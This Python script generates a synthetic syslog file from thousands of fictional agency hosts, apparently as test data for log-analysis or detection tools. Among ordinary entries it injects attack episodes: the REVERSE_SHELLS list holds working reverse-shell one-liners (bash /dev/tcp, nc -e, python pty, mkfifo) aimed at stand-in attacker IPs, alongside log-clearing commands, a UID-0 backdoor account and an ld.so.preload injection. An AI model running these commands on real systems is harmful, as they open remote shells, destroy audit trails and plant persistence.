"""A central syslog file as a large agency's collector writes it: thousands of hosts (checkpoints,
counters, servers) over many days, RFC 3164 and RFC 5424 lines interleaved in time order, the programs
and messages such hosts log, and attack episodes among them (SSH brute force, reverse shells, log
clearing, a root account created, malware found, malformed headers hiding attack strings).

Deterministic for a given size: the same arguments write the same bytes.
"""

from __future__ import annotations

import heapq
import random
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

START = datetime(2026, 3, 1, tzinfo=UTC)  # RFC 3164 lines carry no year: ingest with --year 2026
BKK = timedelta(hours=7)
MONTHS = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()

PROVINCES = "bkk cnx hkt kbi nkp skm sgz utn nwt cri aru pkn".split()
USERS = [f"{p}{i:03d}" for p in ("officer", "staff", "admin", "svc") for i in range(60)]
SERVICES = "nginx postgresql passport-api chronyd rsyslog docker snmpd zabbix-agent".split()
DOMAINS = "immigration.example.go.th mail.example.go.th update.example.org ntp.example.org".split()
ATTACKERS = [f"203.0.113.{i}" for i in range(1, 60)] + [f"198.51.100.{i}" for i in range(1, 40)]


@dataclass(frozen=True)
class Host:
    index: int
    name: str
    rfc5424: bool
    rate: float  # events per day


def hosts(n: int, rng: random.Random) -> list[Host]:
    out = []
    for i in range(n):
        kind = "srv" if i % 10 == 0 else ("ctr" if i % 3 else "chk")
        name = f"{kind}-{PROVINCES[i % len(PROVINCES)]}-{i:04d}"
        out.append(
            Host(i, name, rfc5424=i % 5 == 0, rate=(6.0 if kind == "srv" else 1.0) * rng.uniform(0.5, 1.5))
        )
    return out


def _ip(rng: random.Random) -> str:
    return f"10.{rng.randrange(1, 40)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"


def ordinary(rng: random.Random) -> tuple[str, str]:
    """One everyday (program, message)."""
    u, ip, port = rng.choice(USERS), _ip(rng), rng.randrange(1024, 65535)
    k = rng.randrange(40)
    if k < 6:
        return "sshd", rng.choice(
            [
                f"Accepted publickey for {u} from {ip} port {port} ssh2: RSA SHA256:{rng.getrandbits(64):016x}",
                f"Accepted password for {u} from {ip} port {port} ssh2",
                f"pam_unix(sshd:session): session opened for user {u}(uid={1000 + USERS.index(u)}) by (uid=0)",
                f"pam_unix(sshd:session): session closed for user {u}",
                f"Received disconnect from {ip} port {port}:11: disconnected by user",
                f"Connection closed by {ip} port {port} [preauth]",
            ]
        )
    if k < 11:
        return "CRON", rng.choice(
            [
                "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
                "pam_unix(cron:session): session opened for user root(uid=0) by root(uid=0)",
                "pam_unix(cron:session): session closed for user root",
                f"({u}) CMD (/opt/passport/bin/sync-queue --batch {rng.randrange(1, 500)})",
            ]
        )
    if k < 16:
        s = rng.choice(SERVICES)
        return "systemd", rng.choice(
            [
                f"Started {s}.service - {s} daemon.",
                f"{s}.service: Deactivated successfully.",
                f"Started session-{rng.randrange(1, 99999)}.scope - Session {rng.randrange(1, 99999)} of User {u}.",
                "Starting logrotate.service - Rotate log files...",
                f"{s}.service: Consumed {rng.uniform(0.1, 90):.3f}s CPU time.",
            ]
        )
    if k < 19:
        return "sudo", (
            f"{u} : TTY=pts/{rng.randrange(9)} ; PWD=/home/{u} ; USER=root ; "
            f"COMMAND=/usr/bin/systemctl {rng.choice(['status', 'restart', 'reload'])} {rng.choice(SERVICES)}"
        )
    if k < 23:
        return "kernel", rng.choice(
            [
                f"[UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:{rng.randrange(256):02x}:{rng.randrange(256):02x}:01 "
                f"SRC={rng.choice(ATTACKERS)} DST={ip} LEN=60 TTL={rng.randrange(30, 64)} PROTO=TCP "
                f"SPT={port} DPT={rng.choice([22, 23, 445, 3389, 8080])} SYN",
                "e1000e: eth0 NIC Link is Up 1000 Mbps Full Duplex, Flow Control: Rx/Tx",
                f"usb 1-{rng.randrange(1, 4)}: new high-speed USB device number {rng.randrange(2, 30)} using xhci_hcd",
            ]
        )
    if k < 27:
        doc = rng.getrandbits(40)
        return "passport-scan", rng.choice(
            [
                f"scan document=P{doc:010x} counter={rng.randrange(1, 80)} result=OK elapsed_ms={rng.randrange(80, 900)}",
                f"scan document=P{doc:010x} counter={rng.randrange(1, 80)} result=RETRY reason=glare",
                f"watchlist check ref={doc:010x} hits=0 elapsed_ms={rng.randrange(5, 120)}",
            ]
        )
    if k < 30:
        return "postfix/smtpd", rng.choice(
            [
                f"connect from unknown[{ip}]",
                f"disconnect from unknown[{ip}] ehlo=1 mail=1 rcpt=1 data=1 quit=1",
            ]
        )
    if k < 33:
        return "dhclient", rng.choice(
            [
                f"DHCPREQUEST for {ip} on eth0 to 10.0.0.1 port 67",
                f"DHCPACK of {ip} from 10.0.0.1",
                f"bound to {ip} -- renewal in {rng.randrange(600, 43200)} seconds.",
            ]
        )
    if k < 35:
        return "chronyd", f"Selected source {rng.choice(DOMAINS)} ({_ip(rng)})"
    if k < 37:
        return "named", (
            f"client @0x7f{rng.getrandbits(40):010x} {ip}#{port} ({rng.choice(DOMAINS)}): "
            f"query: {rng.choice(DOMAINS)} IN A + ({_ip(rng)})"
        )
    if k < 38:
        return "clamd", f"/home/{u}/Downloads/report-{rng.randrange(9999)}.pdf: OK"
    return "bash", rng.choice(
        [
            f"HISTORY: PID={rng.randrange(1000, 60000)} UID={1000 + rng.randrange(200)} tail -n 200 /var/log/nginx/access.log",
            f"HISTORY: PID={rng.randrange(1000, 60000)} UID={1000 + rng.randrange(200)} df -h",
            f"HISTORY: PID={rng.randrange(1000, 60000)} UID={1000 + rng.randrange(200)} scp backup.tar {u}@{ip}:/srv/backup/",
        ]
    )


REVERSE_SHELLS = [
    "bash -i >& /dev/tcp/{ip}/4444 0>&1",
    "nc -e /bin/sh {ip} 4444",
    "/bin/bash -c exec 5<>/dev/tcp/{ip}/443;cat <&5 | while read line; do $line 2>&5 >&5; done",
    'python3 -c \'import socket,os;s=socket.socket();s.connect(("{ip}",9001));import pty; pty.spawn("/bin/sh")\'',
    "rm -f /tmp/p; mknod /tmp/p p && nc {ip} 4444 0</tmp/p | /bin/sh 1>/tmp/p",
]
SUSPICIOUS = [
    ("bash", "HISTORY: PID=4242 UID=0 rm -f /var/log/syslog"),
    ("bash", "HISTORY: PID=4242 UID=0 history -c"),
    ("useradd", "new user: name=support2, UID=0, GID=0, home=/root, shell=/bin/bash"),
    ("clamd", "/var/www/html/upload/x.php: Php.Webshell.Generic FOUND"),
    ("clamd", "/tmp/.x/kworker: Unix.Trojan.Mirai-9845 FOUND"),
    ("sshd", "error: Corrupted MAC on input. [preauth]"),
    ("bash", "HISTORY: PID=4242 UID=0 echo '/tmp/.l.so' >> /etc/ld.so.preload"),
    ("kernel", "device eth0 entered promiscuous mode"),
]


def episodes(
    host_list: list[Host], days: int, rng: random.Random
) -> Iterator[tuple[datetime, Host, str, str]]:
    """Per day a few brute-force bursts, reverse shells and other suspicious lines on random hosts."""
    for day in range(days):
        base = START + timedelta(days=day)
        for _ in range(4):  # brute force: dozens of failures in a minute or two, sometimes a success
            h, who, t = (
                rng.choice(host_list),
                rng.choice(ATTACKERS),
                base + timedelta(seconds=rng.randrange(86_000)),
            )
            for i in range(rng.randrange(20, 80)):
                user = rng.choice(["root", "admin", "oracle", "test", "ubuntu"])
                invalid = "" if user == "root" else "invalid user "
                msg = (
                    f"Failed password for {invalid}{user} from {who} port {rng.randrange(30000, 60000)} ssh2"
                )
                yield t + timedelta(seconds=1.3 * i), h, "sshd", msg
            if rng.random() < 0.3:
                yield (
                    t + timedelta(seconds=200),
                    h,
                    "sshd",
                    f"Accepted password for root from {who} port 50123 ssh2",
                )
        for _ in range(2):
            h, t = rng.choice(host_list), base + timedelta(seconds=rng.randrange(86_000))
            shell = rng.choice(REVERSE_SHELLS).format(ip=rng.choice(ATTACKERS))
            yield t, h, "bash", f"HISTORY: PID={rng.randrange(1000, 60000)} UID=0 {shell}"
        for _ in range(3):
            h, t = rng.choice(host_list), base + timedelta(seconds=rng.randrange(86_000))
            app, msg = rng.choice(SUSPICIOUS)
            yield t, h, app, msg


def line(t: datetime, h: Host, app: str, msg: str, pid: int, seq: int) -> str:
    local = t + BKK
    if h.rfc5424:
        stamp = local.strftime("%Y-%m-%dT%H:%M:%S.") + f"{local.microsecond // 1000:03d}+07:00"
        return f'<38>1 {stamp} {h.name} {app} {pid} - [meta sequenceId="{seq}"] {msg}\n'
    stamp = f"{MONTHS[local.month - 1]} {local.day:2d} {local:%H:%M:%S}"
    return f"{stamp} {h.name} {app}[{pid}]: {msg}\n"


def malformed(t: datetime, h: Host, rng: random.Random) -> str:
    """A line whose header does not parse (a broken clock, an unknown month, no host), carrying an attack."""
    attack = rng.choice(REVERSE_SHELLS).format(ip=rng.choice(ATTACKERS))
    local = t + BKK
    return rng.choice(
        [
            f"{MONTHS[local.month - 1]} {local.day:2d} 25:{local:%M:%S} {h.name} bash[77]: HISTORY: {attack}\n",
            f"Foo {local.day:2d} {local:%H:%M:%S} {h.name} bash[77]: HISTORY: {attack}\n",
            f"{MONTHS[local.month - 1]} {local.day:2d} {local:%H:%M:%S} HISTORY: {attack}\n",
        ]
    )


def generate(path: Path, events: int, host_count: int = 2_000, days: int = 12, seed: int = 1) -> dict:
    """Writes about ``events`` lines to ``path``; returns what was written (counts by kind)."""
    rng = random.Random(seed)
    host_list = hosts(host_count, rng)
    total_rate = sum(h.rate for h in host_list)
    span = days * 86_400
    ticks: list[tuple[float, int]] = []
    for i, h in enumerate(host_list):
        n = max(1, round(events * h.rate / total_rate))
        ticks += [(rng.uniform(0, span), i) for _ in range(n)]
    ticks.sort()
    special = sorted(episodes(host_list, days, rng), key=lambda e: e[0])
    seqs = [0] * host_count
    counts = {"lines": 0, "episode": 0, "malformed": 0, "rfc5424": 0}
    with open(path, "w") as fh:
        stream = heapq.merge(
            ((START + timedelta(seconds=s), host_list[i], None, None) for s, i in ticks),
            special,
            key=lambda e: e[0],
        )
        for t, h, app, msg in stream:
            if app is None and rng.random() < 0.0002:
                fh.write(malformed(t, h, rng))
                counts["malformed"] += 1
            else:
                if app is None:
                    app, msg = ordinary(rng)
                else:
                    counts["episode"] += 1
                seqs[h.index] += 1
                fh.write(line(t, h, app, msg, 1000 + rng.randrange(60_000), seqs[h.index]))
                counts["rfc5424"] += h.rfc5424
            counts["lines"] += 1
    counts["hosts"], counts["days"] = host_count, days
    return counts
